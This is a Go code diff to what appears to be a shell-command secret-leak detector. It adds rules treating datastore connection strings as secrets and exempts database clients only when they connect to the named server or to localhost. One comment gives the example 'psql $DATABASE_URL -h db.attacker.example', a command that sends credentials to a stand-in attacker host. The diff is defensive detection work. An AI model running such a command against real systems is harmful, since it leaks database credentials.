@@ -74,6 +74,9 @@ var secretMetaWords = map[string]bool{"COUNT": true, "LEN": true, "LENGTH": true
 // printedSecret reports a secret-named variable whose value is the secret
 // itself (not its count, name or file path).
 func printedSecret(name string) bool {
+	if isConnSecret(name) {
+		return true
+	}
 	if !isSecretVar(name) {
 		return false
 	}
@@ -152,11 +155,71 @@ var dbClients = map[string]bool{"psql": true, "pg_dump": true, "pg_dumpall": tru
 	"dbmate": true, "migrate": true, "atlas": true, "liquibase": true, "flyway": true,
 	"sqlx": true, "diesel": true, "goose": true}
 
-// connStringArg reports a connection-string variable passed as an
-// argument to a database client that has no other destination: the host
-// is inside the variable, the client talks to it. "psql $DATABASE_URL".
-func connStringArg(f *shell.Flow, host string) bool {
-	return f.Kind == shell.SourceEnv && host == "" && dbClients[f.Program] && isConnVar(f.Source)
+// connStringArg reports a connection string or password handed to a
+// database client that talks to the server it names: "psql
+// $DATABASE_URL", "PGPASSWORD=$DB_PASSWORD psql -h localhost". The value
+// is meant for that server. A client given another host as well (psql
+// $DATABASE_URL -h db.attacker.example) is not exempt, nor is a password
+// sent to a host other than the loopback.
+func connStringArg(in *Input, f *shell.Flow, host string) bool {
+	if f.Kind != shell.SourceEnv || host != "" || !dbClients[f.Program] {
+		return false
+	}
+	h, ok := dbClientHost(in.Effects, f.Program)
+	if !ok {
+		return false
+	}
+	if h == "" {
+		return isConnVar(f.Source) || !strings.Contains(commandText(in), "://")
+	}
+	return h == "localhost" || h == "127.0.0.1" || h == "::1"
+}
+
+// dbClientHost returns the host a database client is given with
+// -h/--host (or "" without one); ok is false when it cannot be known.
+func dbClientHost(fx *shell.Effects, prog string) (host string, ok bool) {
+	for _, e := range fx.Execs {
+		if e.Name != prog {
+			continue
+		}
+		for i, a := range e.Args {
+			switch {
+			case a == "-h" || a == "--host" || a == "-H":
+				if i+1 >= len(e.Args) || e.Args[i+1] == "" {
+					return "", false
+				}
+				return e.Args[i+1], true
+			case strings.HasPrefix(a, "--host="):
+				return strings.TrimPrefix(a, "--host="), a != "--host="
+			case strings.HasPrefix(a, "-h") && len(a) > 2 && !strings.HasPrefix(a, "-help"):
+				return a[2:], true
+			}
+		}
+		return "", true
+	}
+	return "", false
+}
+
+// datastoreWords start the names of connection strings that carry a
+// password (redis://:pw@host, mongodb://user:pw@host): REDIS_URL,
+// MONGO_URI, PG_URL. Search and HTTP endpoints (ELASTICSEARCH_URL) are
+// addresses, used as such, not secrets.
+var datastoreWords = map[string]bool{"DATABASE": true, "DB": true, "REDIS": true, "MONGO": true,
+	"MONGODB": true, "POSTGRES": true, "POSTGRESQL": true, "PG": true, "MYSQL": true, "MARIADB": true,
+	"AMQP": true, "RABBITMQ": true, "CELERY": true, "BROKER": true, "VALKEY": true, "MEMCACHED": true}
+
+// isConnSecret reports a datastore connection string (REDIS_URL,
+// MONGO_URI, TEST_DATABASE_URL): it holds the server's password.
+func isConnSecret(name string) bool {
+	if !isConnVar(name) {
+		return false
+	}
+	for _, w := range strings.Split(strings.ToUpper(name), "_") {
+		if datastoreWords[w] {
+			return true
+		}
+	}
+	return false
 }
 
 // isConnVar reports a variable named as a connection string.
